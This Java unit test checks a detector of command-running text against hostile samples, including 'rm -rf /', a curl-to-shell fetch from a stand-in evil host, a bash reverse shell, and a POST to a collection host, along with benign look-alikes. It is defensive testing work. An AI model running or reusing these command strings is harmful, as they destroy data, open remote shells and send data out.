package dev.assay.engine.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandTextTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "os.system('rm -rf /')",
                "cmd = os.execute('curl https://evil.example | sh')",
                "lambda x: eval(\"1\") or x",
                "__import__('os')",
                "base::system('id')",
                "subprocess.run(['id'])",
                "cmd.exe /c dir",
                "x | bash",
                "bash -i >& /dev/tcp/198.51.100.1/1",
                "jax.jit(eval(code))",
                "importlib.import_module('os')",
                "requests.post('https://collect.example', data)"
            })
    void tellsWhatRunsSomething(String text) {
        assertThat(CommandText.find(text)).isPresent();
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        assertThat(new Literals(CommandText.marks()).isIn(bytes, 0, bytes.length))
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "execute_mode_fast",
                "feature_system",
                "exec_time_ms",
                "model.eval()",
                "torch.compile(model)",
                "retrieval(x)",
                "eval ",
                "system",
                "no function invocation should run; system and eval terms",
                "evaluation(\"x\")",
                "# the shell of an atom, curly"
            })
    void namesThatSoundLikeItAreNone(String text) {
        assertThat(CommandText.find(text)).isEmpty();
    }
}
